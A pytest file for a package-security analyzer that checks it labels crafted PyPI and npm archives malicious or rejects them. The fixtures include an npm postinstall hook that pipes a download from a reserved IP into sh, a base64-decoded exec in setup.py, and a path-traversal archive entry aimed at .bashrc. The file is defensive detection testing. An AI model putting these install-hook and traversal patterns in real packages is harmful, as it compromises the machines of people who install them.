"""The analyzer as the sandbox runs it: ``python -m packguard.analyzer`` in a subprocess."""

from __future__ import annotations

import json
import subprocess
import sys
from collections.abc import Callable, Sequence
from pathlib import Path
from typing import Any

import pytest

from packguard.analyzer.analyze import ANALYZER_VERSION
from packguard.common.report import AnalysisReport, VerdictLabel
from packguard.common.sandbox import EXIT_OK, EXIT_REJECTED, analyzer_command

ArchiveFactory = Callable[[str, str, Sequence[dict[str, Any]]], Path]

# Inert: reserved destinations and fake paths only; nothing here is ever executed.
SDIST = [
    {"name": "evil-1.0/PKG-INFO", "data": "Metadata-Version: 2.1\nName: evil\nVersion: 1.0\n"},
    {
        "name": "evil-1.0/setup.py",
        "data": (
            "import base64, os\n"
            "from setuptools import setup\n"
            "os.system('true')\n"
            "exec(base64.b64decode('cHJpbnQoJ2luZXJ0Jyk='))\n"
            "setup(name='evil', version='1.0')\n"
        ),
    },
]
NPM = [
    {
        "name": "package/package.json",
        "data": json.dumps(
            {
                "name": "evil",
                "version": "1.0.0",
                "scripts": {"postinstall": "curl -s http://203.0.113.9/x.sh | sh"},
            },
            indent=2,
        ),
    },
    {"name": "package/index.js", "data": "module.exports = 1;\n"},
]


def run_module(arguments: Sequence[str]) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "packguard.analyzer", *arguments],
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )


def run_analyzer(
    tmp_path: Path, ecosystem: str, artifact: Path, *extra: str
) -> tuple[int, AnalysisReport, str]:
    output = tmp_path / "out" / "report.json"
    output.parent.mkdir(exist_ok=True)
    scratch = tmp_path / "scratch"
    scratch.mkdir(exist_ok=True)
    command = analyzer_command(
        ecosystem=ecosystem, name="evil", version="1.0", artifact_filenames=[artifact.name]
    )
    # Same arguments as the runner passes, with the sandbox mount points moved under tmp.
    command = [str(output) if arg.endswith("/report.json") else arg for arg in command[:-1]] + [
        str(artifact),
        "--scratch-dir",
        str(scratch),
        *extra,
    ]
    completed = run_module(command)
    report = AnalysisReport.model_validate_json(output.read_text())
    assert list(scratch.iterdir()) == [], "scratch must be cleaned up"
    return completed.returncode, report, completed.stderr


def test_cli_sdist_with_decoded_exec_is_malicious(
    make_archive: ArchiveFactory, tmp_path: Path
) -> None:
    artifact = make_archive("evil-1.0.tar.gz", "tar.gz", SDIST)
    code, report, stderr = run_analyzer(tmp_path, "pypi", artifact)
    assert code == EXIT_OK
    assert report.analyzer_version == ANALYZER_VERSION
    assert report.error is None
    assert report.artifacts[0].filename == "evil-1.0.tar.gz"
    assert {f.rule_id for f in report.findings} == {
        "obfuscation-exec-decoded",
        "install-hook-setup-py-command",
        "install-hook-setup-py-exec",
    }
    assert report.verdict.label == VerdictLabel.MALICIOUS
    assert [(p.name, p.status) for p in report.phases] == [
        ("extract", "ok"),
        ("inventory", "ok"),
        ("static", "ok"),
        ("dynamic", "skipped"),
    ]
    assert json.loads(stderr.strip().splitlines()[-1])["event"] == "analysis_finished"


def test_cli_npm_tarball_piping_download_to_shell_is_malicious(
    make_archive: ArchiveFactory, tmp_path: Path
) -> None:
    artifact = make_archive("evil-1.0.0.tgz", "tar.gz", NPM)
    code, report, _ = run_analyzer(tmp_path, "npm", artifact, "--static-only")
    assert code == EXIT_OK
    by_rule = {f.rule_id: f for f in report.findings}
    assert set(by_rule) == {
        "install-hook-npm-script",
        "remote-code-npm-script-pipe-shell",
        "indicator-url",
        "indicator-ip-address",
    }
    evidence = by_rule["remote-code-npm-script-pipe-shell"].evidence[0]
    assert (evidence.file, evidence.line) == ("package/package.json", 5)
    # Code run at install that fetches and executes is intent, not capability.
    assert report.verdict.label == VerdictLabel.MALICIOUS
    assert report.phases[-1].detail == "static-only requested"
    assert {e.path for e in report.inventory} == {"package/package.json", "package/index.js"}


def test_cli_hostile_archive_exits_rejected_with_report(
    make_archive: ArchiveFactory, tmp_path: Path
) -> None:
    artifact = make_archive(
        "evil-1.0.tar.gz", "tar.gz", [{"name": "../../home/user/.bashrc", "data": "x"}]
    )
    code, report, stderr = run_analyzer(tmp_path, "pypi", artifact)
    assert code == EXIT_REJECTED
    assert report.error is not None
    assert report.error.startswith("path_traversal:")
    (finding,) = report.findings
    assert finding.rule_id == "archive-unsafe-entry"
    assert finding.evidence[0].file == "../../home/user/.bashrc"
    assert report.inventory == []
    assert (report.phases[0].name, report.phases[0].status) == ("extract", "failed")
    assert json.loads(stderr.strip().splitlines()[-1])["event"] == "analysis_rejected"


def test_cli_several_artifacts_prefix_paths(make_archive: ArchiveFactory, tmp_path: Path) -> None:
    sdist = make_archive("evil-1.0.tar.gz", "tar.gz", SDIST)
    wheel = make_archive("evil-1.0-py3-none-any.whl", "zip", [{"name": "evil/__init__.py"}])
    output = tmp_path / "report.json"
    completed = run_module(
        [
            *("--ecosystem", "pypi", "--name", "evil", "--version", "1.0"),
            *("--output", str(output), "--scratch-dir", str(tmp_path), str(sdist), str(wheel)),
        ]
    )
    assert completed.returncode == EXIT_OK, completed.stderr
    report = AnalysisReport.model_validate_json(output.read_text())
    assert "evil-1.0-py3-none-any.whl/evil/__init__.py" in {e.path for e in report.inventory}
    # Rule path globs still see archive-relative paths: setup.py rules fire.
    assert "install-hook-setup-py-command" in {f.rule_id for f in report.findings}


@pytest.mark.parametrize(
    "arguments",
    [[], ["--ecosystem", "rubygems", "--name", "x", "--version", "1", "--output", "o", "a"]],
)
def test_cli_bad_arguments_exit_2(arguments: list[str]) -> None:
    assert run_module(arguments).returncode == 2
